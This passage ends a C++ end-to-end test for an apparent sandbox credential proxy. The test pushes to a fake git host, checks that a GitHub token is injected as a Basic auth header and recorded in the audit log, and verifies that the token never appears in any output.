        "-c",
        "user.email=e@example.test"};
    argv.insert(argv.end(), args.begin(), args.end());
    return run_command(argv, 60s);
  };
  const std::string dir = work + "/widgets";
  const auto clone = git({"clone", "-q", "https://git.test/acme/widgets.git", dir});
  ASSERT_EQ(clone.exit_code, 0) << clone.err;
  std::ofstream(dir + "/EXPLICIT") << "through CONNECT\n";
  ASSERT_EQ(git({"-C", dir, "add", "EXPLICIT"}).exit_code, 0);
  ASSERT_EQ(git({"-C", dir, "commit", "-q", "-m", "explicit"}).exit_code, 0);
  const auto push = git({"-C", dir, "push", "-q", "origin", "main"});
  EXPECT_EQ(push.exit_code, 0) << push.err;
  EXPECT_EQ(head_of("acme/widgets.git"), git({"-C", dir, "rev-parse", "HEAD"}).out);
  const std::string token = world->github.token_for({"acme/widgets"});
  ASSERT_FALSE(token.empty());
  ASSERT_FALSE(authorizations().empty());
  EXPECT_EQ(authorizations().back(), "Basic " + secrets::base64("x-access-token:" + token));
  const auto lines = audit("http_request");
  ASSERT_FALSE(lines.empty());
  for (const auto& line : lines) {
    EXPECT_EQ(json_string(line, "credential.name"), "gh");
    EXPECT_EQ(json_string(line, "labels.sandbox_id"), kExplicitId);
  }
  expect_no_token_in("git's output", clone.out + clone.err + push.out + push.err);
  expect_no_token_anywhere();
}

}  // namespace
}  // namespace sandgate::test

// The daemon, the launcher's wiring and the test internet never touch the machine's own
// network: the whole binary runs in a fresh network namespace.
int main(int argc, char** argv) {
  return sandgate::test::run_tests_in_own_netns(argc, argv, sandgate::test::kInsideEnv,
                                                "sandbox_credentials_e2e_test");
}
